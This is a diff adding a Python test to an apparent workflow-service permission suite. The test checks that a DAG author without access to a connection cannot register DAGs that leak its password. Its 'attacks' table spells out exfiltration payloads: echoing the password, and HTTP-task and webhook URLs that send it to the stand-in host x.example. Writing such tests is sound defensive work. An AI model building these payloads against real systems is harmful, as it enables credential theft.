@@ -351,3 +351,51 @@ def test_deleting_a_group_needs_what_leaving_it_and_detaching_its_policies_need(
     assert k.api("POST", "/api/v1/iam/groups", json={"group": "scratch"}).status_code == 201
     put_policy(k, "group-writer", allow("iam:Write", "iam/group/*"))
     assert call(k, gina, "DELETE", "/api/v1/iam/groups/scratch").status_code == 200
+
+
+def test_a_dag_may_refer_only_to_connections_its_author_may_use(k: Standalone) -> None:
+    """A DAG author denied a connection's values could otherwise register a DAG that sends
+    them out (printed by a task, in a webhook's URL): registering needs ``connections:Use`` on
+    every connection the DAG refers to, wherever it does."""
+    body = {"connectionId": "vault-db", "properties": {"password": "vault-pw"}}
+    assert k.api("POST", "/api/v1/connections", json=body).status_code == 201
+    put_policy(
+        k,
+        "dag-author",
+        allow(["dags:Register", "dags:Read"], "dag/*"),
+        allow("connections:Use", "connection/shared-*"),
+    )
+    put_user(k, "erin", policies=("dag-author",))
+    erin = {**login(k, "erin"), "Content-Type": "application/yaml"}
+    fails = "tasks: [{id: t, script: 'false'}]"
+    attacks = {
+        "script": ("", "tasks: [{id: t, script: 'echo ${conn.vault-db.password}'}]"),
+        "secret": ("", "tasks: [{id: t, script: 'echo ${secret.vault-db}'}]"),
+        "http config": (
+            "",
+            "tasks: [{id: t, type: http, config: {url: 'https://x.example/${conn.vault-db.password}'}}]",
+        ),
+        "webhook": (
+            ", notify: {on_failure: [{webhook: {url: 'https://x.example/${conn.vault-db.password}'}}]}",
+            fails,
+        ),
+        "email": (", notify: {on_failure: [{email: {connection: vault-db, to: [a@x.example]}}]}", fails),
+    }
+    for where, (extra, tasks) in attacks.items():
+        r = call(k, erin, "POST", "/api/v1/dags", content=f"dag: {{id: exfil{extra}}}\n{tasks}\n")
+        assert forbidden(r, "connections:Use", "connection/vault-db"), (where, r.text)
+    assert k.api("GET", "/api/v1/dags/exfil").status_code == 404
+    # The connections erin may use, and none at all, register as before; so does the admin's.
+    for dag in (
+        "dag: {id: fine}\ntasks: [{id: t, script: 'echo ${conn.shared-cache.host}'}]\n",
+        "dag: {id: plain}\ntasks: [{id: t, script: 'true'}]\n",
+    ):
+        r = call(k, erin, "POST", "/api/v1/dags", content=dag)
+        assert r.status_code == 201, r.text
+    r = k.api(
+        "POST",
+        "/api/v1/dags",
+        content="dag: {id: admins}\ntasks: [{id: t, script: 'echo ${conn.vault-db.password}'}]\n",
+        headers={"Content-Type": "application/yaml"},
+    )
+    assert r.status_code == 201, r.text
